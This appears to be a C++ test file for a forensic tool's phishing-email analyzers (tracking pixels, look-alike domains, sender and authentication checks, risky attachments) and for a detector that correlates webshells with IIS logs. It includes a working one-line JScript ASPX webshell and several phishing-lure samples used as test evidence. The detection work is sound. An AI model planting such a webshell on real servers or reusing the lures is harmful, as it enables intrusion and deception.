// Built-in analyzers on messages and web-server evidence this test writes
// itself: every message is built to trigger exactly the analyzers listed
// beside it (or none), ingested through the real pipeline with harrier-cli,
// scanned, and the hit set compared exactly. Expected answers come from how
// each message was built, never from Harrier's output.
#include <QCryptographicHash>
#include <QUrl>
#include <QtTest>

#include "analyzer_test_util.h"
#include "core/mail_test_util.h"
#include "rules/analyzers/confusables.h"
#include "rules/analyzers/recipient_match.h"
#include "rules/analyzers/url_util.h"
#include "support/archive_builder.h"

using namespace harrier;
using Expected = std::map<std::string, std::set<std::string>>;  // message tag -> analyzer ids

namespace {

const std::string kPixel = "harrier.email.tracking-pixel";
const std::string kToken = "harrier.email.recipient-token";
const std::string kCampaign = "harrier.email.tracking-campaign";
const std::string kAnchor = "harrier.email.anchor-mismatch";
const std::string kLookalike = "harrier.email.lookalike-domain";
const std::string kSender = "harrier.email.sender-mismatch";
const std::string kAuth = "harrier.email.auth-failure";
const std::string kAttach = "harrier.email.risky-attachment";

struct Mail {
    QByteArray from = "News Desk <desk@news-update.info>";
    QByteArray to = "someone@parliament.uk";
    QByteArray subject = "Weekly parliamentary briefing";
    QByteArray extraHeaders;  ///< complete lines, "\n"-terminated
    QByteArray transferEncoding;
    QByteArray html;
};

QByteArray render(const QString &tag, const Mail &m) {
    QByteArray s = "From: " + m.from + "\nTo: " + m.to + "\nSubject: " + m.subject + "\nMessage-ID: <" + tag.toUtf8() +
                   "@harrier.test>\nDate: Tue, 5 Mar 2024 10:00:00 +0000\nMIME-Version: 1.0\n" + m.extraHeaders +
                   "Content-Type: text/html; charset=utf-8\n";
    if (!m.transferEncoding.isEmpty())
        s += "Content-Transfer-Encoding: " + m.transferEncoding + "\n";
    return s + "\n<html><body><p>Today's briefing.</p>\n" + m.html + "\n</body></html>\n";
}

QByteArray withAttachment(const QString &tag, const QByteArray &from, const QByteArray &filename, const QByteArray &mime,
                          const QByteArray &data) {
    return "From: " + from + "\nTo: clerk@parliament.uk\nSubject: Documents for the committee\nMessage-ID: <" +
           tag.toUtf8() +
           "@harrier.test>\nDate: Tue, 5 Mar 2024 11:00:00 +0000\nMIME-Version: 1.0\n"
           "Content-Type: multipart/mixed; boundary=\"b1\"\n\n--b1\nContent-Type: text/plain\n\nPlease see the "
           "attachment.\n--b1\nContent-Type: " +
           mime + "; name=\"" + filename + "\"\nContent-Disposition: attachment; filename=\"" + filename +
           "\"\nContent-Transfer-Encoding: base64\n\n" + data.toBase64() + "\n--b1--\n";
}

QByteArray b64(const QByteArray &s, bool url, bool pad) {
    QByteArray::Base64Options o = url ? QByteArray::Base64UrlEncoding : QByteArray::Base64Encoding;
    if (!pad)
        o |= QByteArray::OmitTrailingEquals;
    return s.toBase64(o);
}

// message-id tag -> email object id, from the case.
std::map<std::string, casestore::ObjectId> emailIds(const casestore::CaseDb &db) {
    std::map<std::string, casestore::ObjectId> out;
    for (const auto &e : test::objectsOfKind(db, "email")) {
        std::string mid = test::text(e, "message_id");
        out[mid.substr(0, mid.find('@'))] = e.id;
    }
    return out;
}

}  // namespace

class TestAnalyzers : public QObject {
    Q_OBJECT

    QTemporaryDir m_tmp;
    std::unique_ptr<test::ScannedCase> m_mail;
    Expected m_expected;
    std::set<std::string> m_campaign, m_all;

    void add(const QString &tag, const QByteArray &raw, std::set<std::string> analyzers) {
        test::writeFile(m_tmp.path() + "/mail/" + tag + ".eml", raw);
        m_all.insert(tag.toStdString());
        if (!analyzers.empty())
            m_expected[tag.toStdString()] = std::move(analyzers);
    }

private slots:
    void initTestCase() {
        QVERIFY(m_tmp.isValid());
        QDir().mkpath(m_tmp.path() + "/mail");

        // Tracking pixels in every encoding the parser must see through.
        auto pixel = [&](const QString &tag, const QByteArray &img, const QByteArray &cte = {}) {
            Mail m;
            m.to = tag.toUtf8() + "@parliament.uk";
            m.html = img;
            m.transferEncoding = cte;
            add(tag, render(tag, m), {kPixel});
        };
        pixel("px-plain", "<img src=\"http://news-update.info/p/a.gif\" width=1 height=1>");
        pixel("px-css", "<img src=\"http://news-update.info/p/b.gif\" style=\"width:1px; height:1px; border:0\">");
        pixel("px-display", "<img src=\"https://news-update.info/p/c.png\" style=\"display:none\">");
        pixel("px-vis", "<img src=\"https://news-update.info/p/d.png\" style=\"visibility: hidden\">");
        pixel("px-zero", "<img src=\"https://news-update.info/p/e.png\" width=\"0\" height=\"0\">");
        pixel("px-qp", "<img src=3D\"http://news-update.info/p/f.gif\" width=3D\"1\" =\nheight=3D\"1\">",
              "quoted-printable");
        // Quoted-printable text sent without the header that says so.
        pixel("px-qp-stray", "<img src=3D\"http://news-update.info/p/g.gif\" width=3D\"1\" height=3D\"1\">", "8bit");
        {
            Mail m;  // a newsletter: List-Unsubscribe, a plain 1x1 pixel -> low severity
            m.extraHeaders = "List-Unsubscribe: <https://news-update.info/unsub>\n";
            m.html = "<img src=\"https://news-update.info/p/h.gif\" width=\"1\" height=\"1\">";
            add("px-bulk", render("px-bulk", m), {kPixel});
        }
        {
            Mail m;  // 1x1 pixel whose path is the recipient's address in base64
            m.to = "erin@parliament.uk";
            m.html = "<img src=\"http://news-update.info/o/" + b64("erin@parliament.uk", false, true) +
                     ".gif\" height=\"1\" width=\"1\">";
            add("px-token", render("px-token", m), {kPixel, kToken});
        }
        {
            Mail m;  // visible images, an inline (cid) 1x1 and a layout spacer: none is tracking
            m.html = "<img src=\"https://news-update.info/banner.jpg\" width=\"600\" height=\"200\">"
                     "<img src=\"cid:logo@x\" width=\"1\" height=\"1\">"
                     "<img src=\"https://news-update.info/spacer.gif\" width=\"1\" height=\"20\">";
            add("img-neg", render("img-neg", m), {});
        }

        // Recipient tokens in links.
        auto token = [&](const QString &tag, const QByteArray &rcpt, const QByteArray &url) {
            Mail m;
            m.to = rcpt;
            m.html = "<a href=\"" + url + "\">Read the full story</a>";
            add(tag, render(tag, m), {kToken});
        };
        token("tok-plain", "alice@parliament.uk", "https://news-update.info/r?id=7&u=alice@parliament.uk");
        token("tok-urlenc", "bob@parliament.uk", "https://news-update.info/r?u=bob%40parliament.uk&c=4");
        token("tok-b64", "carol@parliament.uk",
              "https://news-update.info/r?e=" + QUrl::toPercentEncoding(b64("carol@parliament.uk", false, true)));
        token("tok-b64url", "dave.o@parliament.uk",
              "https://news-update.info/c/" + b64("dave.o@parliament.uk", true, false) + "/story");
        {
            Mail m;  // the recipient's name alone, or another person's address: no token
            m.to = "frank@parliament.uk";
            m.html = "<a href=\"https://news-update.info/r?u=frank\">x</a> <a href=\"https://news-update.info/r?u=grace@parliament.uk\">y</a>";
            add("tok-neg", render("tok-neg", m), {});
        }

        // Look-alikes of the protected parliament.uk.
        {
            Mail m;
            m.from = "Press Office <press@parliarnent.uk>";  // rn -> m
            m.html = "<p>Statement attached.</p>";
            add("la-rn", render("la-rn", m), {kLookalike});
        }
        {
            Mail m;  // Cyrillic a (U+0430) in the first letter a, as punycode in the href
            const QByteArray ace = QUrl::toAce(QString::fromUtf8("p\xD0\xB0rliament.uk"));
            QVERIFY(ace.startsWith("xn--"));
            m.html = "<a href=\"https://" + ace + "/login\">Sign in to the members' area</a>";
            add("la-puny", render("la-puny", m), {kLookalike});
        }
        {
            Mail m;
            m.from = "Committee Office <office@parliamant.uk>";  // one substitution
            m.html = "<p>Agenda.</p>";
            add("la-edit", render("la-edit", m), {kLookalike});
        }
        {
            Mail m;  // two letters swapped
            m.html = "<a href=\"https://www.parlaiment.uk/vote\">Vote now</a>";
            add("la-swap", render("la-swap", m), {kLookalike});
        }
        {
            Mail m;  // the real domain and an unrelated one
            m.from = "Library <library@parliament.uk>";
            m.html = "<a href=\"https://www.parliament.uk/business\">business</a> <a href=\"https://example.org/\">x</a>";
            add("la-neg", render("la-neg", m), {});
        }

        // Anchor text showing one domain, href going to another.
        {
            Mail m;
            m.html = "<a href=\"http://login-verify.info/session\">https://www.parliament.uk/members</a>";
            add("am-1", render("am-1", m), {kAnchor});
            Mail n;
            n.html = "<a href=\"https://www.example.org/a\">www.example.org</a> <a href=\"https://mail.example.org/\">example.org webmail</a>";
            add("am-neg", render("am-neg", n), {});
        }

        // From / Reply-To / Return-Path / display name.
        {
            Mail m;
            m.from = "Minister's Office <office@gov-news.org>";
            m.extraHeaders = "Reply-To: minister.office@freemail.example\n";
            add("sm-reply", render("sm-reply", m), {kSender});
            Mail n;
            n.from = "Minister's Office <office@gov-news.org>";
            n.extraHeaders = "Return-Path: <office@mailer.example.net>\n";
            add("sm-return", render("sm-return", n), {kSender});
            Mail o;
            o.from = "\"speaker@parliament.uk\" <speaker.office@mail-relay.info>";
            add("sm-display", render("sm-display", o), {kSender});
            Mail p;
            p.from = "Office <office@gov-news.org>";
            p.extraHeaders = "Reply-To: desk@lists.gov-news.org\nReturn-Path: <office@gov-news.org>\n";
            add("sm-neg", render("sm-neg", p), {});
            Mail q;  // a list: Reply-To is the list, bounces go to a VERP address
            q.from = "Member <member@university.example>";
            q.extraHeaders = "Sender: owner-briefing@lists.gov-news.org\nPrecedence: list\n"
                             "Reply-To: briefing@lists.gov-news.org\n"
                             "Return-Path: <briefing-bounces+someone=parliament.uk@lists.gov-news.org>\n";
            add("sm-list", render("sm-list", q), {});
        }

        // SPF / DKIM / DMARC.
        {
            Mail m;
            m.from = "Office <office@gov-news.org>";
            m.extraHeaders = "Authentication-Results: mx.parliament.uk; spf=pass smtp.mailfrom=gov-news.org; "
                             "dkim=none; dmarc=fail (p=reject) header.from=gov-news.org\n";
            add("af-dmarc", render("af-dmarc", m), {kAuth});
            Mail n;
            n.from = "Office <office@gov-news.org>";
            n.extraHeaders = "Received-SPF: Fail (mx.parliament.uk: domain of office@gov-news.org does not designate "
                             "198.51.100.4 as permitted sender) client-ip=198.51.100.4; envelope-from=office@gov-news.org;\n";
            add("af-spf", render("af-spf", n), {kAuth});
            Mail o;
            o.from = "Office <office@gov-news.org>";
            o.extraHeaders = "Authentication-Results: mx.parliament.uk; spf=pass smtp.mailfrom=gov-news.org; "
                             "dkim=pass header.d=gov-news.org; dmarc=pass header.from=gov-news.org\n";
            add("af-pass", render("af-pass", o), {});
        }

        // Attachments: macros, an executable inside a zip, an encrypted zip, a harmless text.
        {
            const QByteArray sender = "Clerk <clerk@committee-mail.org>";
            const std::string dir = m_tmp.path().toStdString();
            test::writeArchive(dir + "/macro.docm", test::ArchiveKind::Zip,
                               {{"[Content_Types].xml", "<?xml version=\"1.0\"?><Types/>"},
                                {"word/document.xml", "<w:document/>"},
                                {"word/vbaProject.bin", std::string("\xD0\xCF\x11\xE0 vba", 8)}});
            add("at-macro",
                withAttachment("at-macro", sender, "minutes.docm", "application/vnd.ms-word.document.macroEnabled.12",
                               QByteArray::fromStdString(test::readAll(dir + "/macro.docm"))),
                {kAttach});
            std::string mz("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00", 16);
            mz += std::string(200, '\0');
            test::writeArchive(dir + "/exe.zip", test::ArchiveKind::Zip,
                               {{"invoice.pdf.exe", mz}, {"readme.txt", "open the invoice"}});
            add("at-exe",
                withAttachment("at-exe", sender, "invoice.zip", "application/zip",
                               QByteArray::fromStdString(test::readAll(dir + "/exe.zip"))),
                {kAttach});
            test::writeArchive(dir + "/enc.zip", test::ArchiveKind::Zip, {{"budget.txt", "secret numbers"}},
                               "Harrier-2024-not-a-default");
            add("at-enc",
                withAttachment("at-enc", sender, "budget.zip", "application/zip",
                               QByteArray::fromStdString(test::readAll(dir + "/enc.zip"))),
                {kAttach});
            add("at-txt", withAttachment("at-txt", sender, "notes.txt", "text/plain", "just notes\n"), {});
        }

        // A campaign: one template, 24 recipients, a different token each.
        for (int i = 1; i <= 24; ++i) {
            const QString tag = QString("camp-%1").arg(i, 2, 10, QChar('0'));
            Mail m;
            m.from = "Daily Brief <editor@daily-brief.info>";
            m.to = QString("member%1@parliament.uk").arg(i, 2, 10, QChar('0')).toUtf8();
            m.subject = "China and the UK: what's next";
            const QByteArray tok =
                "r" + QByteArray::number(i * 7919) +
                QCryptographicHash::hash(tag.toUtf8(), QCryptographicHash::Sha1).toHex().left(10);
            m.html = "<a href=\"https://daily-brief.info/article/" + tok + "?src=mail\">Read the full story</a>";
            add(tag, render(tag, m), {});
            m_campaign.insert(tag.toStdString());
        }
        // The same static URL to 12 people (a broadcast), and a token template
        // in only 6 messages (under the threshold of 10): no campaign.
        for (int i = 1; i <= 12; ++i) {
            const QString tag = QString("bcast-%1").arg(i);
            Mail m;
            m.from = "Digest <digest@weekly-digest.info>";
            m.to = QString("reader%1@parliament.uk").arg(i).toUtf8();
            m.html = "<a href=\"https://weekly-digest.info/issue/march\">Read this week's issue</a>";
            add(tag, render(tag, m), {});
        }
        for (int i = 1; i <= 6; ++i) {
            const QString tag = QString("small-%1").arg(i);
            Mail m;
            m.from = "Digest <digest@small-list.info>";
            m.to = QString("few%1@parliament.uk").arg(i).toUtf8();
            m.html = "<a href=\"https://small-list.info/t/x" + QByteArray::number(i * 104729) + "ab\">Read</a>";
            add(tag, render(tag, m), {});
        }

        m_mail = test::ingestAndScan({m_tmp.path() + "/mail"}, {"--protected-domain", "parliament.uk"});
        QCOMPARE(m_mail->scanRc, 0);
        QVERIFY(m_mail->db);
        // 4 = partial ingest: the encrypted zip's entry cannot be read, and
        // that must be the only item that failed.
        QVERIFY(m_mail->ingestRc == 0 || m_mail->ingestRc == 4);
        auto errors = casestore::CaseReader(*m_mail->db).errors();
        QVERIFY(errors);
        for (const auto &e : *errors)
            if (e.severity == casestore::ErrorSeverity::Error)
                QVERIFY2(e.path.find("at-enc") != std::string::npos, (e.path + ": " + e.reason).c_str());
    }

    void everyMessageWasIngested() {
        const auto ids = emailIds(*m_mail->db);
        for (const auto &tag : m_all)
            QVERIFY2(ids.count(tag), tag.c_str());
    }

    void exactHitSet() {
        const auto ids = emailIds(*m_mail->db);
        std::map<casestore::ObjectId, std::string> tagOf;
        for (const auto &[tag, id] : ids)
            tagOf[id] = tag;
        Expected got;
        int campaigns = 0;
        for (const auto &h : m_mail->hits) {
            if (h.ruleId == kCampaign) {
                ++campaigns;
                continue;
            }
            const auto d = test::details(h);
            const casestore::ObjectId emailId = d.value("email_id", casestore::ObjectId(0));
            QVERIFY2(emailId != 0, h.ruleId.c_str());
            if (h.ruleId != kAttach)
                QCOMPARE(h.objectId, emailId);
            got[tagOf.count(emailId) ? tagOf[emailId] : "?"].insert(h.ruleId);
            QVERIFY2(!h.explanation.empty(), h.ruleId.c_str());
        }
        for (const auto &[tag, set] : got)
            for (const auto &a : set)
                if (!m_expected.count(tag) || !m_expected.at(tag).count(a))
                    qWarning("unexpected hit: %s %s", tag.c_str(), a.c_str());
        for (const auto &[tag, set] : m_expected)
            for (const auto &a : set)
                if (!got.count(tag) || !got.at(tag).count(a))
                    qWarning("missing hit: %s %s", tag.c_str(), a.c_str());
        QVERIFY(got == m_expected);
        QCOMPARE(campaigns, 1);
    }

    void oneCampaignListingItsMembers() {
        const auto ids = emailIds(*m_mail->db);
        std::set<casestore::ObjectId> expected;
        for (const auto &t : m_campaign)
            expected.insert(ids.at(t));
        for (const auto &h : m_mail->hits) {
            if (h.ruleId != kCampaign)
                continue;
            const auto d = test::details(h);
            const auto members = d.at("member_email_ids").get<std::set<casestore::ObjectId>>();
            QVERIFY(members == expected);
            QCOMPARE(d.at("recipient_count").get<int>(), 24);
            QCOMPARE(h.objectId, *expected.begin());
            QVERIFY2(h.explanation.find("daily-brief[.]info/article/{token}?src=mail") != std::string::npos,
                     h.explanation.c_str());
            QVERIFY(h.explanation.find("24 messages to 24 recipients") != std::string::npos);
        }
    }

    void explanationsNameTheEvidence() {
        const auto ids = emailIds(*m_mail->db);
        static const casestore::HitRecord none{};
        auto hitFor = [&](const std::string &tag, const std::string &analyzer) -> const casestore::HitRecord * {
            for (const auto &h : m_mail->hits)
                if (h.ruleId == analyzer && test::details(h).value("email_id", casestore::ObjectId(0)) == ids.at(tag))
                    return &h;
            qWarning("no %s hit for %s", analyzer.c_str(), tag.c_str());
            return &none;  // fails the checks below instead of crashing
        };
        const auto *px = hitFor("px-display", kPixel);
        QVERIFY(px != &none);
        QVERIFY2(px->explanation.find("hidden with display:none from news-update[.]info") != std::string::npos,
                 px->explanation.c_str());
        const auto *tok = hitFor("px-token", kPixel);
        QVERIFY(tok != &none);
        QVERIFY2(tok->explanation.find("1×1 remote image from news-update[.]info carrying the recipient's address "
                                       "base64-encoded") != std::string::npos,
                 tok->explanation.c_str());
        QCOMPARE(tok->severity, 75);
        QCOMPARE(hitFor("px-bulk", kPixel)->severity, 20);  // newsletter pixel without a recipient token
        QCOMPARE(hitFor("px-plain", kPixel)->severity, 40);
        const auto *enc = hitFor("tok-urlenc", kToken);
        QVERIFY(enc && enc->explanation.find("URL-encoded") != std::string::npos);
        QVERIFY(enc->explanation.find("query parameter \"u\"") != std::string::npos);
        const auto *url = hitFor("tok-b64url", kToken);
        QVERIFY2(url && url->explanation.find("base64-encoded without padding in its path") != std::string::npos,
                 url ? url->explanation.c_str() : "none");
        const auto *rn = hitFor("la-rn", kLookalike);
        QVERIFY(rn && rn->explanation.find("parliarnent[.]uk reads as the protected parliament[.]uk") != std::string::npos);
        QCOMPARE(rn->severity, 85);
        const auto *puny = hitFor("la-puny", kLookalike);
        QVERIFY2(puny && puny->explanation.find("punycode homograph") != std::string::npos,
                 puny ? puny->explanation.c_str() : "none");
        QVERIFY(hitFor("la-edit", kLookalike)->explanation.find("1 edit away") != std::string::npos);
        const auto *am = hitFor("am-1", kAnchor);
        QVERIFY(am && am->explanation.find("shows www[.]parliament[.]uk goes to login-verify[.]info") != std::string::npos);
        QCOMPARE(hitFor("sm-return", kSender)->severity, 20);
        QCOMPARE(hitFor("sm-reply", kSender)->severity, 50);
        QCOMPARE(hitFor("af-dmarc", kAuth)->severity, 60);
        // The executable inside the zip is the hit's object, not the zip.
        for (const auto &h : m_mail->hits)
            if (h.ruleId == kAttach && test::details(h).value("email_id", casestore::ObjectId(0)) == ids.at("at-exe")) {
                const auto d = test::details(h);
                QCOMPARE(QString::fromStdString(d.at("name").get<std::string>()), QStringLiteral("invoice.pdf.exe"));
                QCOMPARE(d.at("kind").get<std::string>(), std::string("executable-in-archive"));
                QCOMPARE(d.at("depth").get<int>(), 1);
            }
    }

    void rulesetVersionAndSwitches() {
        // Re-running the same analyzers replaces their hits; other settings are kept apart.
        const QString c = m_mail->path;
        const std::size_t before = m_mail->hits.size();
        QCOMPARE(test::runCli({"scan", c, "--protected-domain", "parliament.uk", "--quiet"}), 0);
        QByteArray out;
        QCOMPARE(test::runCli({"hits", c, "--json", "--rule-set", "harrier-analyzers"}, &out), 0);
        auto j = nlohmann::json::parse(out.toStdString());
        QCOMPARE(j.at("hits").size(), before);
        // Switching one analyzer off: a different rule-set hash, and none of its hits.
        QCOMPARE(test::runCli({"scan", c, "--protected-domain", "parliament.uk", "--no-analyzer", kPixel.c_str(),
                               "--quiet"}),
                 0);
        QCOMPARE(test::runCli({"hits", c, "--json", "--rule-set", "harrier-analyzers"}, &out), 0);
        j = nlohmann::json::parse(out.toStdString());
        std::size_t pixels = 0;
        for (const auto &h : j.at("hits"))
            pixels += h.at("rule_id") == kPixel ? 1 : 0;
        QCOMPARE(pixels, std::size_t(0));
        QVERIFY(j.at("hits").size() < before);
        QCOMPARE(test::runCli({"hits", c, "--json", "--rule-set", "harrier-analyzers", "--all-versions"}, &out), 0);
        j = nlohmann::json::parse(out.toStdString());
        QVERIFY(j.at("hits").size() > before);
        // Without a protected list no look-alike of parliament.uk is reported, the
        // punycode homograph still is (low severity).
        QByteArray scanOut;
        QCOMPARE(test::runCli({"scan", c, "--analyzer", kLookalike.c_str(), "--json"}, &scanOut), 0);
        j = nlohmann::json::parse(scanOut.toStdString());
        QCOMPARE(j.at("analyzers").at("hits").get<int>(), 1);
        QCOMPARE(test::runCli({"scan", c, "--no-analyzer", "harrier.email.nope"}), 2);
        QCOMPARE(test::runCli({"scan", c, "--no-analyzers"}), 2);  // nothing left to run
    }

    void webshellCorrelatedWithIisLog() {
        QTemporaryDir tmp;
        const QString ev = tmp.path() + "/ev";
        const QByteArray shell = "<%@ Page Language=\"Jscript\"%><% eval(Request.Item[\"z\"],\"unsafe\"); %>";
        test::writeFile(ev + "/inetpub/wwwroot/aspnet_client/system_web/Shell.aspx", shell);
        test::writeFile(ev + "/inetpub/wwwroot/default.aspx", "<html>welcome</html>");
        test::writeFile(ev + "/tools/shell.aspx", shell);  // same code outside any web root: not a webshell hit
        QByteArray log = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
                         "#Date: 2024-03-01 00:00:00\n"
                         "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
                         "cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\n";
        auto line = [&](const char *time, const char *method, const char *path, const QByteArray &ip, int status = 200) {
            log += QByteArray("2024-03-01 ") + time + " 10.0.0.5 " + method + " " + path + " - 443 - " + ip +
                   " Mozilla/5.0 " + QByteArray::number(status) + " 0 0 15\n";
        };
        for (int i = 0; i < 5; ++i)  // a normal page: many clients, GETs
            line("09:00:00", "GET", "/default.aspx", "192.0.2." + QByteArray::number(10 + i));
        line("09:30:00", "POST", "/default.aspx", "192.0.2.11");
        // The webshell: first a GET, then POSTs from the operator (and one more address).
        line("10:15:00", "GET", "/aspnet_client/system_web/shell.aspx", "203.0.113.9");
        for (int i = 0; i < 6; ++i)
            line(QByteArray("10:2" + QByteArray::number(i) + ":00").constData(), "POST",
                 "/aspnet_client/system_web/shell.aspx", "203.0.113.9");
        line("11:00:00", "POST", "/aspnet_client/system_web/shell.aspx", "203.0.113.10");
        // POST-only traffic from one address to a script that is not in the case.
        for (int i = 0; i < 7; ++i)
            line(QByteArray("12:0" + QByteArray::number(i) + ":00").constData(), "POST", "/upload/handler.ashx",
                 "198.51.100.7");
        // POSTs from many clients (a real form) and POSTs mixed with many GETs: not suspicious.
        for (int i = 0; i < 6; ++i)
            line("13:00:00", "POST", "/api/submit.php", "192.0.2." + QByteArray::number(50 + i));
        for (int i = 0; i < 5; ++i)
            line("14:00:00", "POST", "/forms/contact.aspx", "192.0.2.99");
        for (int i = 0; i < 10; ++i)
            line("14:30:00", "GET", "/forms/contact.aspx", "192.0.2.99");
        test::writeFile(ev + "/inetpub/logs/LogFiles/W3SVC1/u_ex240301.log", log);
        const QString rules = tmp.path() + "/ws.yar";
        test::writeFile(rules, "rule jscript_eval_request { meta: score = 80 strings: $a = \"eval(Request\" "
                               "condition: $a }\n");
        auto c = test::ingestAndScan({ev}, {"--yara", rules, "--cache-dir", tmp.path() + "/cache"});
        QCOMPARE(c->ingestRc, 0);
        QCOMPARE(c->scanRc, 0);
        std::vector<const casestore::HitRecord *> shells, posts;
        for (const auto &h : c->hits) {
            if (h.ruleId == "harrier.web.webshell")
                shells.push_back(&h);
            else if (h.ruleId == "harrier.web.script-post")
                posts.push_back(&h);
            else
                QFAIL(h.ruleId.c_str());
        }
        QCOMPARE(shells.size(), std::size_t(1));
        const auto d = test::details(*shells[0]);
        QVERIFY(d.at("path").get<std::string>().ends_with("inetpub/wwwroot/aspnet_client/system_web/Shell.aspx"));
        QCOMPARE(d.at("requests").get<int>(), 8);
        QCOMPARE(d.at("posts").get<int>(), 7);
        QCOMPARE(d.at("gets").get<int>(), 1);
        QCOMPARE(d.at("client_ips"), nlohmann::json({"203.0.113.9", "203.0.113.10"}));
        QVERIFY(d.at("first_seen").get<std::string>().starts_with("2024-03-01T10:15:00"));
        QVERIFY(d.at("first_post").get<std::string>().starts_with("2024-03-01T10:20:00"));
        QCOMPARE(shells[0]->severity, 90);
        const std::string &x = shells[0]->explanation;
        QVERIFY2(x.find("YARA rule") != std::string::npos && x.find("jscript_eval_request") != std::string::npos &&
                     x.find("8 requests") != std::string::npos && x.find("7 POST") != std::string::npos &&
                     x.find("203.0.113.9") != std::string::npos && x.find("first seen 2024-03-01T10:15:00") != std::string::npos,
                 x.c_str());
        QVERIFY(shells[0]->eventId != 0);
        QCOMPARE(posts.size(), std::size_t(1));
        const auto p = test::details(*posts[0]);
        QCOMPARE(p.at("request_path").get<std::string>(), std::string("/upload/handler.ashx"));
        QCOMPARE(p.at("posts").get<int>(), 7);
        QCOMPARE(p.at("client_ips"), nlohmann::json({"198.51.100.7"}));
        QVERIFY(posts[0]->severity < shells[0]->severity);
    }

    void helpers() {
        using namespace rules::analyzers;
        QCOMPARE(QString::fromStdString(confusableSkeleton("parliarnent.uk")), QStringLiteral("parliament.uk"));
        QCOMPARE(QString::fromStdString(confusableSkeleton("vvho1s.c0m")), QStringLiteral("whols.com"));
        QCOMPARE(QString::fromStdString(confusableSkeleton("p\xD0\xB0rliament.uk")), QStringLiteral("parliament.uk"));
        QCOMPARE(editDistance("parliament.uk", "parlaiment.uk"), 1);
        QCOMPARE(editDistance("parliament.uk", "parliament.uk"), 0);
        QCOMPARE(editDistance("parliament.uk", "example.org", 2), 3);
        QCOMPARE(QString::fromStdString(registrableDomain("a.b.parliament.uk")), QStringLiteral("parliament.uk"));
        QVERIFY(hasKnownTld("www.example.org") && !hasKnownTld("report.pdf") && !hasKnownTld("1.2.3"));
        QCOMPARE(base64Decode("Y2Fyb2xAcGFybGlhbWVudC51aw").value_or(""), std::string("carol@parliament.uk"));
        const std::vector<std::string> r{"carol@parliament.uk"};
        QVERIFY(findRecipient("https://x.example/?e=Y2Fyb2xAcGFybGlhbWVudC51aw%3D%3D", r));
        // At the start of a longer encoded blob ({"e":... after the address).
        QVERIFY(findRecipient("https://x.example/t/" + b64("carol@parliament.uk|campaign=7", true, false).toStdString(), r));
        QVERIFY(!findRecipient("https://x.example/?e=carol", r));
    }
};

QTEST_GUILESS_MAIN(TestAnalyzers)
#include "tst_analyzers.moc"
